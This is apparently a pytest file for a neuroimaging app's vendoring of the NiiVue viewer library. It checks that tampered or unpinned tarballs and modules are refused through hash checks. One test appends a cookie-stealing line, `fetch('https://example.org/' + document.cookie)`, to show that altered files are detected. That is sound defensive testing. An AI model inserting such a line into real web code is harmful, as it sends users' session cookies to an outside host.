"""NiiVue's vendoring (glioscope.serve.vendor): a tarball or a file that is not the pinned one is refused, and the app
says why it has no NiiVue. No network: tarballs are made here; the real file is the one `make viewer` fetched."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import tarfile
import urllib.parse

import pytest

from glioscope.serve import vendor


def tarball(module: str, license: str = "BSD-2-Clause") -> bytes:
    """An npm-like tarball whose build/index.min.js exports `module` URL-encoded, as NiiVue's does."""
    members = {
        vendor.MEMBER: f'export const esm = "{urllib.parse.quote(module)}"'.encode(),
        "package/package.json": json.dumps(
            {"name": "@niivue/niivue", "version": "0.69.0", "license": license}
        ).encode(),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


@pytest.mark.parametrize("change", ["one byte", "truncated", "another package"])
def test_a_tarball_that_is_not_the_pinned_one_is_refused(change):
    data = tarball("export class Niivue {}")
    with pytest.raises(vendor.VendorError, match="not the pinned"):
        vendor.verify_tarball(data)  # not NiiVue 0.69.0's bytes
    altered = {
        "one byte": data[:100] + bytes([data[100] ^ 1]) + data[101:],
        "truncated": data[:-10],
        "another package": tarball("export class Niivue { evil() {} }"),
    }[change]
    with pytest.raises(vendor.VendorError, match="not the pinned"):
        vendor.verify_tarball(altered, integrity(data))
    vendor.verify_tarball(data, integrity(data))  # the check itself accepts the bytes it was made from


def test_a_module_that_is_not_the_pinned_one_is_refused_even_in_a_well_formed_tarball():
    with pytest.raises(vendor.VendorError, match="module's sha256"):
        vendor.extract(tarball("export class Niivue {}"))


@pytest.mark.parametrize("module", ['export const a = "%?&";\nexport class Niivue {}', "é ✓ ∑ \\u2713"])
def test_the_bundle_decodes_to_the_module_it_holds(module):
    bundle = tarfile.open(fileobj=io.BytesIO(tarball(module))).extractfile(vendor.MEMBER).read().decode()
    assert vendor.decode_module(bundle) == module
    with pytest.raises(vendor.VendorError, match="another layout"):
        vendor.decode_module("export default 1;")


def test_fetch_writes_nothing_when_the_download_is_not_the_pinned_tarball(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(vendor, "VENDOR", tmp_path / "vendor")
    monkeypatch.setattr(vendor.urllib.request, "urlopen", lambda url, timeout: io.BytesIO(tarball("x")))
    assert vendor.main([]) == 2
    assert "not the pinned" in capsys.readouterr().err and not (tmp_path / "vendor").exists()


def test_offline_the_target_says_so_and_the_app_keeps_its_canvas_viewer(monkeypatch, tmp_path, capsys):
    def offline(url, timeout):
        raise OSError("no network")

    monkeypatch.setattr(vendor, "VENDOR", tmp_path / "vendor")
    monkeypatch.setattr(vendor.urllib.request, "urlopen", offline)
    assert vendor.main(["--if-reachable"]) == 0 and "canvas viewer" in capsys.readouterr().out
    assert vendor.main([]) == 1
    assert "make viewer" in vendor.missing()


def test_the_app_serves_only_the_pinned_file(tmp_path):
    real = vendor.module_path()
    if vendor.missing() is not None:
        pytest.skip(f"{vendor.missing()} (this test checks the file `make viewer` fetched)")
    copy = tmp_path / "vendor"
    copy.mkdir()
    shutil.copy(real, copy / vendor.MODULE)
    assert vendor.missing(copy) is None
    with open(copy / vendor.MODULE, "ab") as out:
        out.write(b"\n;fetch('https://example.org/' + document.cookie);\n")
    assert "not the one pinned" in vendor.missing(copy)
    (copy / vendor.MODULE).unlink()
    assert "make viewer" in vendor.missing(copy)
